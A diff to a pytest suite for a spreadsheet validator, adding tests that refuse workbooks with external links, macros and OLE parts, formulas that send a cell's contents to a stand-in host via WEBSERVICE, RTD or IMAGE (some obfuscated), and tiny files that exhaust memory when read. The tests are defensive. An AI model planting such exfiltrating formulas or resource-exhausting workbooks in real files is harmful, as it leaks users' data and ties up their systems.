@@ -191,10 +191,69 @@ def test_what_is_no_harmless_workbook_is_refused_with_what_to_do(
     assert refused.value.field == "sheet"
 
 
-def sheet_with(row: str, *, before: str = "") -> bytes:
+@pytest.mark.parametrize(
+    ("kind", "said"),
+    [
+        ("http://x/relationships/externalLink", "another file"),
+        ("http://x/relationships/connections", "another file"),
+        ("http://x/relationships/queryTable", "another file"),
+        ("http://x/relationships/oleObject", "another file"),
+        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "macros"),
+        ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macros"),
+    ],
+)
+def test_a_part_that_runs_or_reaches_out_is_known_whatever_it_is_named(
+    kind: str, said: str
+) -> None:
+    bound = f'<Relationship Id="rId9" Type="{kind}" Target="notes/plain.xml"/></Relationships>'
+    relations = ugly.WORKBOOK_RELATIONS.replace("</Relationships>", bound)
+    renamed = {"xl/_rels/workbook.xml.rels": relations, "xl/notes/plain.xml": "<a/>"}
+    with pytest.raises(Invalid, match=said):
+        rules.open_book(ugly.made_of({**ugly.PARTS, **renamed}))
+
+
+def sheet_with(row: str, *, before: str = "", after: str = "") -> bytes:
     """The workbook with other columns, or another row, in its first worksheet."""
     head = ugly.SHEET.partition("<cols>")[0]
-    return ugly.workbook(sheet1=f"{head}{before}<sheetData>{row}</sheetData></worksheet>")
+    return ugly.workbook(sheet1=f"{head}{before}<sheetData>{row}</sheetData>{after}</worksheet>")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        sheet_with('<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://x/?"&amp;B1)</f></c></row>'),
+        sheet_with('<row r="1"><c r="A1"><f>1+&#82;TD("a",,"b")</f></c></row>'),
+        sheet_with("", after="<x:f>_xlfn.IMAGE( B1 )</x:f>"),
+        sheet_with("", after="<formula1>webservice(B1)</formula1>"),
+        ugly.workbook(
+            **{"xl/workbook.xml": ugly.WORKBOOK.replace("报表!$A$1:$F$9", 'WEBSERVICE("http://x")')}
+        ),
+    ],
+)
+def test_a_formula_that_hands_on_what_stands_beside_it_is_refused(content: bytes) -> None:
+    with pytest.raises(Invalid, match="another file"):
+        rules.check_book(rules.open_book(content))
+
+
+def test_a_formula_that_only_speaks_of_such_a_one_is_taken() -> None:
+    said = '<row r="1"><c r="A1"><f>IF(B1,"CALL (0571)",RECALL(B1))</f></c></row>'
+    rules.check_book(rules.open_book(sheet_with(said)))
+
+
+# Each of these would take minutes, or all memory.
+@pytest.mark.parametrize(
+    "content",
+    [
+        sheet_with("", before='<col min="1" max="16384" hidden="1"/>' * 20_000),
+        sheet_with("", after='<mergeCell ref="A1:BH200"/>' * 2_000),
+        sheet_with("", after='<mergeCell ref="CA1:CB2"/>' * 20_000),
+        sheet_with("", after="<a/>" * 1_000_001),
+        ugly.workbook(Content_Types=ugly.TYPES.replace("</Types>", f"{'<a/>' * 100_001}</Types>")),
+    ],
+)
+def test_a_workbook_that_is_small_and_endless_to_read_is_refused(content: bytes) -> None:
+    with pytest.raises(Invalid, match="cannot be read"):
+        rules.check_book(rules.open_book(content))
 
 
 def packed_as(kind: int, *, cut: int = 0) -> bytes:
